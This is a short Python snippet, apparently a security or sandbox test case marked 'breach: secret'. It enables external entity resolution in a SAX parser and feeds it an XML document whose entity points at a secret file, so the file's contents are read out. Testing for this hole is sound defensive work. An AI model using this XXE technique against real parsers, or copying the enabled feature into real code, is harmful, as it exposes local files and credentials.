# An external entity of an XML document.
# breach: secret
import io
import xml.sax
class Handler(xml.sax.ContentHandler):
    def characters(self, text):
        found.append(text)
found = []
parser = xml.sax.make_parser()
parser.setFeature("http://xml.org/sax/features/external-general-entities", True)
parser.setContentHandler(Handler())
parser.parse(io.StringIO(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{SECRET_FILE}">]><a>&e;</a>'))
found
